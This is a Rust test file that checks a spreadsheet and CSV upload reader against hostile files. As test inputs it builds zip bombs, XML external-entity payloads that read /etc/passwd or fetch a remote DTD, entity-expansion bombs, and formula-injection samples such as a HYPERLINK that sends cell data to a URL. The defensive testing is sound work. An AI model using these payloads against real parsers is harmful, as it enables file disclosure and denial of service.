//! Files made to hurt: each is refused by the limit it breaks, or read for what it really holds (security: threats 17, 18).

use std::time::{Duration, Instant};

use crate::support::{Upload, archive, sheet, text, xlsx};
use sheets::read::{Limits, Raw, ReadError};

fn refused(bytes: &[u8]) -> ReadError {
    Upload::new(bytes).rows(&Limits::default()).unwrap_err()
}

#[test]
fn a_zip_bomb_is_noticed_while_it_unpacks() {
    // 80 MiB of blanks in 80 KiB.
    let bomb = xlsx(sheet("<sheetData/>").as_bytes(), &[("xl/media/image1.png", &vec![b' '; 80 << 20])]);
    assert!(bomb.len() < 200 << 10);
    assert_eq!(refused(&bomb), ReadError::RatioTooHigh { limit: 200 });
    let limits = Limits { ratio: u64::MAX, unpacked_bytes: 1 << 20, ..Limits::default() };
    assert_eq!(Upload::new(&bomb).rows(&limits).unwrap_err(), ReadError::UnpackedTooLarge { limit: 1 << 20 });
}

#[test]
fn sizes_in_the_directory_are_not_believed() {
    let mut bomb = xlsx(sheet("<sheetData/>").as_bytes(), &[("xl/big.bin", &vec![b' '; 80 << 20])]);
    // The uncompressed size, wherever it stands, becomes 1.
    let truth = (80u32 << 20).to_le_bytes();
    let mut found = 0;
    for at in 0..bomb.len() - 4 {
        if bomb[at..at + 4] == truth {
            bomb[at..at + 4].copy_from_slice(&1u32.to_le_bytes());
            found += 1;
        }
    }
    assert!(found >= 2, "local header and directory");
    assert!(matches!(refused(&bomb), ReadError::RatioTooHigh { .. } | ReadError::Damaged { .. }));
}

#[test]
fn each_limit_has_its_own_refusal() {
    let cells = |row: &str| sheet(&format!("<sheetData>{row}</sheetData>"));
    let inline = |at: &str, text: &str| format!(r#"<c r="{at}" t="inlineStr"><is><t>{text}</t></is></c>"#);
    let rows: String = (1..=30).map(|n| format!(r#"<row r="{n}">{}</row>"#, inline(&format!("A{n}"), "x"))).collect();
    let file = xlsx(cells(&rows).as_bytes(), &[]);
    let with = |limits: Limits| Upload::new(&file).rows(&limits).unwrap_err();
    let base = Limits::default();
    assert_eq!(with(Limits { file_bytes: 100, ..base }), ReadError::FileTooLarge { limit: 100 });
    assert_eq!(with(Limits { members: 3, ..base }), ReadError::TooManyMembers { limit: 3 });
    assert_eq!(with(Limits { sheets: 0, ..base }), ReadError::TooManySheets { limit: 0 });
    assert_eq!(with(Limits { rows: 29, ..base }), ReadError::TooManyRows { limit: 29 });
    assert_eq!(with(Limits { seconds: 0, ..base }), ReadError::TooSlow { seconds: 0 });
    assert!(Upload::new(&file).rows(&Limits { rows: 30, ..base }).is_ok());

    let wide = xlsx(cells(&format!(r#"<row r="7">{}</row>"#, inline("XFD7", "x"))).as_bytes(), &[]);
    assert_eq!(refused(&wide), ReadError::TooManyColumns { limit: 256, row: 7 });
    let long = xlsx(cells(&format!(r#"<row r="2">{}</row>"#, inline("B2", &"çã".repeat(500_000)))).as_bytes(), &[]);
    let limits = Limits { ratio: u64::MAX, ..base };
    assert_eq!(Upload::new(&long).rows(&limits).unwrap_err(), ReadError::CellTooLong { limit: 32_767, row: 2, column: 2 });
    let merged = sheet(&format!("<sheetData/><mergeCells>{}</mergeCells>", r#"<mergeCell ref="A1:B2"/>"#.repeat(30)));
    let merged = Upload::new(&xlsx(merged.as_bytes(), &[]));
    assert_eq!(merged.rows(&Limits { merged: 29, ..base }).unwrap_err(), ReadError::TooManyMerged { limit: 29 });
}

#[test]
fn a_lying_dimension_costs_nothing() {
    let lie = sheet(
        r#"<dimension ref="A1:XFD1048576"/><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>CNPJ</t></is></c></row><row r="1048576"><c r="B1048576"><v>7</v></c></row></sheetData>"#,
    );
    let before = resident();
    let rows = Upload::new(&xlsx(lie.as_bytes(), &[])).rows(&Limits::default()).unwrap();
    let numbers: Vec<_> = rows.iter().map(sheets::read::Row::number).collect();
    assert_eq!(numbers, [1, 1_048_576]);
    assert_eq!(rows[1].cell(1), Raw::Number(7.0));
    // 17 thousand million cells would be seen.
    assert!(resident() < before + (16 << 20), "{before} → {}", resident());
}

/// Bytes of memory this process has now.
fn resident() -> usize {
    let statm = std::fs::read_to_string("/proc/self/statm").unwrap();
    statm.split(' ').nth(1).unwrap().parse::<usize>().unwrap() * 4096
}

#[test]
fn lying_counts_of_shared_strings_cost_nothing() {
    let strings = r#"<?xml version="1.0"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="4294967295" uniqueCount="4294967295"><si><t>Açaí</t></si></sst>"#;
    let body = sheet(r#"<sheetData><row r="1"><c r="A1" t="s"><v>0</v></c></row></sheetData>"#);
    let before = resident();
    let lie = xlsx(body.as_bytes(), &[("xl/sharedStrings.xml", strings.as_bytes())]);
    assert!(matches!(refused(&lie), ReadError::Damaged { .. }));
    assert!(resident() < before + (16 << 20));
    let truth = strings.replace("4294967295", "1");
    let truth = Upload::new(&xlsx(body.as_bytes(), &[("xl/sharedStrings.xml", truth.as_bytes())]));
    assert_eq!(text(&truth.rows(&Limits::default()).unwrap()[0], 0), "Açaí");
}

#[test]
fn document_types_and_their_entities_are_refused() {
    for doctype in [
        r#"<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>"#,
        r#"<!DOCTYPE x SYSTEM "http://127.0.0.1:9/x.dtd">"#,
        r#"<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>"#,
    ] {
        let body = sheet(r#"<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&e;</t></is></c></row></sheetData>"#);
        let body = body.replacen("?>", &format!("?>{}{doctype}", " ".repeat(70_000)), 1);
        let limits = Limits { ratio: u64::MAX, ..Limits::default() };
        assert_eq!(Upload::new(&xlsx(body.as_bytes(), &[])).rows(&limits).unwrap_err(), ReadError::DocumentType);
    }
    // Without a declaration the entity means nothing, and is not looked up anywhere.
    let body = sheet(r#"<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&e;</t></is></c></row></sheetData>"#);
    if let Ok(rows) = Upload::new(&xlsx(body.as_bytes(), &[])).rows(&Limits::default()) {
        assert!(rows.iter().all(|row| !row.cells().any(|cell| matches!(cell, Raw::Text(text) if text.contains("root")))));
    }
}

#[test]
fn other_files_dressed_as_spreadsheets_are_called_by_their_name() {
    let compound = |name: &str| {
        let mut bytes = b"\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1".to_vec();
        bytes.resize(1024, 0);
        bytes.extend(name.encode_utf16().flat_map(u16::to_le_bytes));
        bytes.resize(4096, 0);
        bytes
    };
    let cases: Vec<(Vec<u8>, ReadError)> = vec![
        (Vec::new(), ReadError::Empty),
        (compound("Workbook"), ReadError::OldExcel),
        (compound("EncryptedPackage"), ReadError::Encrypted),
        (
            archive(&[("mimetype", b"application/vnd.oasis.opendocument.spreadsheet"), ("content.xml", b"<x/>")]),
            ReadError::OpenDocument,
        ),
        (archive(&[("[Content_Types].xml", b"<x/>"), ("xl/workbook.bin", b"")]), ReadError::BinaryExcel),
        (archive(&[("[Content_Types].xml", b"<x/>"), ("word/document.xml", b"<x/>")]), ReadError::NotASheet),
        (archive(&[("a.txt", b"hello")]), ReadError::NotASheet),
        (b"%PDF-1.7\n%\xE2\xE3\xCF\xD3".to_vec(), ReadError::NotASheet),
        (b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01".to_vec(), ReadError::NotASheet),
        (b"<html><body><table><tr><td>1".to_vec(), ReadError::NotASheet),
        (b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0".to_vec(), ReadError::NotASheet),
    ];
    for (bytes, error) in cases {
        assert_eq!(Upload::new(&bytes).inspect().unwrap_err(), error);
    }
}

#[test]
fn broken_archives_are_damaged_not_a_crash() {
    let whole = std::fs::read(crate::support::fixture("sujo_500.xlsx")).unwrap();
    for cut in [5, 100, whole.len() / 2, whole.len() - 10] {
        assert!(matches!(refused(&whole[..cut]), ReadError::Damaged { .. }), "cut at {cut}");
    }
    let mut flipped = whole.clone();
    let middle = flipped.len() / 2;
    flipped[middle..middle + 64].iter_mut().for_each(|byte| *byte ^= 0x5A);
    assert!(matches!(refused(&flipped), ReadError::Damaged { .. }));
}

#[test]
fn formulas_are_told_and_never_computed() {
    let body = sheet(
        r#"<sheetData><row r="1"><c r="A1"><f>1+1</f><v>2</v></c><c r="B1" t="str"><f>HYPERLINK("http://x/?"&amp;A2)</f><v>clique</v></c><c r="C1"><f t="shared" si="9999999999"/><v>3</v></c><c r="D1" t="e"><v>#REF!</v></c><c r="E1" t="b"><v>1</v></c><c r="F1" t="inlineStr"><is><t>@SUM(1+1)*cmd</t></is></c></row></sheetData>"#,
    );
    let rows = Upload::new(&xlsx(body.as_bytes(), &[])).rows(&Limits::default()).unwrap();
    let row = &rows[0];
    assert_eq!(row.cell(0), Raw::Formula("=1+1"));
    assert_eq!(row.cell(1), Raw::Formula(r#"=HYPERLINK("http://x/?"&A2)"#));
    assert_eq!(row.cell(2), Raw::Formula("="));
    assert_eq!(row.cell(3), Raw::Error("#REF!"));
    assert_eq!(row.cell(4), Raw::Bool(true));
    assert!(matches!(row.cell(5), Raw::Text(_)) && row.cell(5).is_formula());
}

#[test]
fn rows_out_of_order_are_refused() {
    let body = sheet(r#"<sheetData><row r="5"><c r="A5"><v>1</v></c></row><row r="2"><c r="A2"><v>1</v></c></row></sheetData>"#);
    assert!(matches!(refused(&xlsx(body.as_bytes(), &[])), ReadError::Damaged { .. }));
}

#[test]
fn a_million_merged_cells_over_many_rows_stay_fast() {
    let rows: String = (1..=3_000).map(|n| format!(r#"<row r="{n}"><c r="A{n}"><v>1</v></c></row>"#)).collect();
    let merged: String = (0..15_000).map(|n| format!(r#"<mergeCell ref="A{}:XFD{}"/>"#, n + 1, n + 2)).collect();
    let body = sheet(&format!("<sheetData>{rows}</sheetData><mergeCells>{merged}</mergeCells>"));
    let begin = Instant::now();
    Upload::new(&xlsx(body.as_bytes(), &[])).rows(&Limits::default()).unwrap();
    assert!(begin.elapsed() < Duration::from_secs(5));
}

#[test]
fn csv_of_any_encoding_separator_and_line_end_says_the_same() {
    let lines =
        ["Nome{s}Município{s}Valor", "Açúcar União{s}São José{s}1", "\"Têxtil{s} Três\"{s}{s}2", "", "Curta", "A{s}B{s}C{s}D"];
    for separator in [";", ",", "\t", "|"] {
        for end in ["\n", "\r\n", "\r", "mixed"] {
            let text: String = lines
                .iter()
                .enumerate()
                .map(|(i, line)| {
                    format!(
                        "{}{}",
                        line.replace("{s}", separator),
                        if end == "mixed" { ["\r", "\r\n", "\n"][i % 3] } else { end }
                    )
                })
                .collect();
            let utf16 = |bytes: fn(u16) -> [u8; 2]| format!("\u{feff}{text}").encode_utf16().flat_map(bytes).collect::<Vec<u8>>();
            let latin = encoding_rs::WINDOWS_1252.encode(&text).0.into_owned();
            for bytes in [
                text.clone().into_bytes(),
                format!("\u{feff}{text}").into_bytes(),
                utf16(u16::to_le_bytes),
                utf16(u16::to_be_bytes),
                latin,
            ] {
                let upload = Upload::new(&bytes);
                let inspection = upload.inspect().unwrap();
                assert_eq!(inspection.sheets[0].headers, ["Nome", "Município", "Valor"], "{separator:?} {end:?}");
                let rows = upload.rows(&Limits::default()).unwrap();
                assert_eq!(
                    rows.iter().map(sheets::read::Row::number).collect::<Vec<_>>(),
                    [1, 2, 3, 5, 6],
                    "{separator:?} {end:?}"
                );
                assert_eq!(text_of(&rows[1]), ["Açúcar União", "São José", "1"]);
                assert_eq!(text_of(&rows[2]), [&format!("Têxtil{separator} Três"), "", "2"]);
                assert_eq!(text_of(&rows[4]), ["A", "B", "C", "D"]);
            }
        }
    }
}

fn text_of(row: &sheets::read::Row) -> Vec<String> {
    row.cells().map(|cell| sheets::import::cell_text(cell).into_owned()).collect()
}

#[test]
fn nuls_and_a_million_characters_in_a_csv() {
    let nul = "nome;cidade\nA\u{0}çaí;B\n";
    let rows = Upload::new(nul.as_bytes()).rows(&Limits::default()).unwrap();
    assert_eq!(text(&rows[1], 0), "Açaí");
    let long = format!("nome;cidade\nA;{}\n", "x".repeat(1_000_000));
    assert_eq!(refused(long.as_bytes()), ReadError::CellTooLong { limit: 32_767, row: 2, column: 2 });
    let open = format!("nome;cidade\n\"A;b\n{}", "c;d\n".repeat(50_000));
    assert_eq!(refused(open.as_bytes()), ReadError::OpenQuote { row: 2 });
    let many = "a;b\n".repeat(201_000);
    assert_eq!(refused(many.as_bytes()), ReadError::TooManyRows { limit: 200_000 });
}
